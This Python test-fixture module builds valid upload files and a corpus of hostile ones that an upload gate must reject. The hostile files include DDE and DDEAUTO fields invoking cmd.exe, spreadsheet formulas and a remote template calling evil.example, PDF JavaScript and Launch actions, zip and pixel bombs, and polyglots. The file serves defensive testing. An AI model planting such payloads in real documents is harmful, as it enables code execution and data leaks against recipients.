"""Real files for upload tests, built in the test run: good PDF/PNG/JPEG/.docx/.xlsx files, and a
corpus of hostile or odd ones (bombs, renamed formats, macros, scripts in PDFs, polyglots,
truncated files) that every upload point must refuse."""

import io
import warnings
import zipfile

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

MIB = 1024 * 1024


def pdf_bytes(*, pages=1, javascript=None, open_action=False, launch=False, embedded=False):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if javascript:  # a document-level script in the /Names tree
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)
            writer.add_js(javascript)
    if open_action:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if launch:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
    if embedded:
        writer.add_attachment("payload.exe", b"MZ" + b"\0" * 64)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def image_bytes(fmt="PNG", size=(40, 30)):
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


PDF_BYTES = pdf_bytes()
PNG_BYTES = image_bytes("PNG")
JPEG_BYTES = image_bytes("JPEG")


def xlsx_bytes(rows=(("名称", "数量"), ("助老", 1)), *, formulas=(), hidden_title=None):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "数据"
    for row in rows:
        sheet.append(list(row))
    for cell, formula in formulas:
        sheet[cell] = formula
    if hidden_title:
        hidden = workbook.create_sheet(hidden_title)
        hidden.sheet_state = "hidden"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


CONTENT_TYPES_DOCX = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="%s"/></Types>'
)
DOCX_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


def document_xml(body=b"<w:p><w:r><w:t>\xe9\x80\x9a\xe7\x9f\xa5</w:t></w:r></w:p>"):
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
        b'wordprocessingml/2006/main"><w:body>' + body + b"</w:body></w:document>"
    )


def zip_bytes(parts, *, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bytes(*, main=DOCX_MAIN, extra=None, body=None):
    parts = {
        "[Content_Types].xml": CONTENT_TYPES_DOCX % main,
        "_rels/.rels": ROOT_RELS,
        "word/document.xml": document_xml(body) if body else document_xml(),
    }
    parts.update(extra or {})
    return zip_bytes(parts)


DOCX_BYTES = docx_bytes()
XLSX_BYTES = xlsx_bytes()


def _bomb_docx(inflated):
    """A .docx whose document part inflates to `inflated` bytes from a few hundred KB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_DOCX % DOCX_MAIN)
        archive.writestr("_rels/.rels", ROOT_RELS)
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            chunk = b" " * MIB
            for _ in range(inflated // MIB):
                member.write(chunk)
    return buffer.getvalue()


def _bomb_xlsx():
    good = zipfile.ZipFile(io.BytesIO(XLSX_BYTES))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in good.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                with archive.open(item.filename, "w", force_zip64=True) as member:
                    for _ in range(60):
                        member.write(b"\0" * MIB)
            else:
                archive.writestr(item, good.read(item))
    return buffer.getvalue()


def _rezip(data, extra=None, rename=None, content_types=None):
    source = zipfile.ZipFile(io.BytesIO(data))
    parts = {}
    for item in source.infolist():
        name = (rename or {}).get(item.filename, item.filename)
        parts[name] = source.read(item)
    if content_types:
        parts["[Content_Types].xml"] = content_types(parts["[Content_Types].xml"])
    parts.update(extra or {})
    return zip_bytes(parts)


def hostile_corpus():
    """(name, file name as uploaded, bytes) for every hostile or odd file the gate must refuse."""
    dde = xlsx_bytes(formulas=[("C2", "=cmd|'/C calc'!A0")])
    hyperlink = xlsx_bytes(formulas=[("C2", '=HYPERLINK("http://evil.example/x","点击")')])
    webservice = xlsx_bytes(formulas=[("C2", '=WEBSERVICE("http://evil.example/")')])
    image_formula = xlsx_bytes(formulas=[("C2", '=IMAGE("http://evil.example/x.png")')])
    truncated_pdf = PDF_BYTES[: len(PDF_BYTES) // 2]
    corpus = [
        ("empty", "空.pdf", b""),
        ("zip bomb workbook", "数据.xlsx", _bomb_xlsx()),
        ("300 MB-inflating docx", "通知.docx", _bomb_docx(300 * MIB)),
        ("xlsx with a DDE formula", "名单.xlsx", dde),
        ("xlsx with a HYPERLINK formula", "名单.xlsx", hyperlink),
        ("xlsx with a WEBSERVICE formula", "名单.xlsx", webservice),
        ("macro document renamed .docx", "通知.docx", docx_bytes(main=DOCM_MAIN)),
        (
            "docx carrying vbaProject.bin in odd case",
            "通知.docx",
            docx_bytes(extra={"word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0" + b"\0" * 100}),
        ),
        (
            "xlsx carrying a vbaProject.bin",
            "数据.xlsx",
            _rezip(XLSX_BYTES, extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 100}),
        ),
        (
            "xlsm renamed .xlsx",
            "数据.xlsx",
            _rezip(
                XLSX_BYTES,
                content_types=lambda ct: ct.replace(
                    b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
                ),
            ),
        ),
        (
            "docx with a DDEAUTO field",
            "通知.docx",
            docx_bytes(
                body=b"<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows"
                b'\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
            ),
        ),
        (
            "docx with a remote template",
            "通知.docx",
            docx_bytes(
                extra={
                    "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://schemas.'
                    b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
                }
            ),
        ),
        (
            "pptx (another OOXML type)",
            "通知.docx",
            _rezip(DOCX_BYTES, rename={"word/document.xml": "ppt/presentation.xml"}),
        ),
        ("PDF with JavaScript", "公告.pdf", pdf_bytes(javascript="app.alert('x')")),
        ("PDF with an OpenAction", "公告.pdf", pdf_bytes(open_action=True)),
        ("PDF with a Launch action", "公告.pdf", pdf_bytes(launch=True)),
        ("PDF with an embedded file", "公告.pdf", pdf_bytes(embedded=True)),
        (
            "PDF with a hex-escaped /JavaScript name",
            "公告.pdf",
            PDF_BYTES.replace(b"%%EOF", b"9 0 obj <</S /J#61vaScript /JS (app.alert(1))>> endobj\n%%EOF"),
        ),
        ("truncated PDF", "公告.pdf", truncated_pdf),
        ("PDF header only", "公告.pdf", b"%PDF-1.4\n%%EOF\n"),
        ("truncated PNG", "扫描.png", PNG_BYTES[:40]),
        ("truncated JPEG", "扫描.jpg", JPEG_BYTES[: len(JPEG_BYTES) // 2]),
        ("PNG header and garbage", "扫描.png", b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 32),
        ("PNG with a zip appended (polyglot)", "扫描.png", PNG_BYTES + DOCX_BYTES),
        ("JPEG with a zip appended (polyglot)", "扫描.jpg", JPEG_BYTES + XLSX_BYTES),
        ("PDF with a zip appended (polyglot)", "公告.pdf", PDF_BYTES + DOCX_BYTES),
        (
            "PNG with HTML inside (polyglot)",
            "扫描.png",
            PNG_BYTES + b"<html><script>alert(1)</script></html>",
        ),
        ("JPEG that is also a PDF (polyglot)", "扫描.jpg", JPEG_BYTES[:2] + b"%PDF-1.4" + JPEG_BYTES[2:]),
        ("HTML renamed .pdf", "公告.pdf", b"<html><script>alert(1)</script></html>"),
        ("Windows program renamed .pdf", "公告.pdf", b"MZ\x90\x00" + b"\0" * 200),
        ("old .doc renamed .docx", "通知.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        ("zip that is not OOXML", "通知.docx", zip_bytes({"readme.txt": b"hello"})),
        ("corrupt zip", "通知.docx", DOCX_BYTES[:60]),
        # Variants written the way an XML reader reads them, not the way a text search does (issue 19
        # §2: the class, not the example): escaped characters, another namespace prefix, other quotes.
        ("xlsx with an escaped DDE pipe", "名单.xlsx", dde.replace(b"cmd|", b"cmd&#124;")),
        ("xlsx with an IMAGE formula fetching a URL", "名单.xlsx", image_formula),
        (
            "xlsx with an external link part",
            "数据.xlsx",
            _rezip(XLSX_BYTES, extra={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        ),
        (
            "xlsx with VBAPROJECT.BIN in a subfolder",
            "数据.xlsx",
            _rezip(XLSX_BYTES, extra={"xl/media/sub/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0" + b"\0" * 100}),
        ),
        ("docx with a remote template in single quotes", "通知.docx", _external_rel("TargetMode='External'")),
        ("docx with a remote template, escaped", "通知.docx", _external_rel('TargetMode="&#69;xternal"')),
        (
            "docx with an escaped DDEAUTO field",
            "通知.docx",
            docx_bytes(
                body=b"<w:p><w:r><w:instrText>&#68;DEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>"
            ),
        ),
        (
            "docx with a ddeLink under another prefix",
            "通知.docx",
            docx_bytes(
                body=b'<w:p><x:ddeLink xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/></w:p>'
            ),
        ),
        ("docx with a DTD entity", "通知.docx", _with_dtd(DOCX_BYTES)),
        ("JPEG with a zip and 70 KB of padding", "扫描.jpg", JPEG_BYTES + DOCX_BYTES + b"\0" * 70_000),
        (
            "pixel bomb PNG",
            "扫描.png",
            _pixel_bomb(),
        ),
    ]
    return corpus


def _external_rel(target_mode):
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'attachedTemplate" Target="http://evil.example/t.dotm" {target_mode}/></Relationships>'
    )
    return docx_bytes(extra={"word/_rels/settings.xml.rels": rels.encode()})


def _with_dtd(data):
    """The document part with an entity declaration (a billion-laughs seed; never in a real file)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    part = source.read("word/document.xml")
    head, _, rest = part.partition(b"?>")
    dtd = b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">]>'
    return _rezip(data, extra={"word/document.xml": head + b"?>" + dtd + rest})


def _pixel_bomb():
    buffer = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(buffer, "PNG")
    return buffer.getvalue()


def pdf_of_size(size):
    """A valid one-page PDF of exactly `size` bytes (padded with a metadata string)."""
    pad = 0
    for _ in range(5):
        writer = PdfWriter()
        writer.add_blank_page(width=595, height=842)
        writer.add_metadata({"/Padding": "0" * pad})
        buffer = io.BytesIO()
        writer.write(buffer)
        data = buffer.getvalue()
        if len(data) == size:
            return data
        pad += size - len(data)
    raise AssertionError(f"could not build a PDF of {size} bytes")
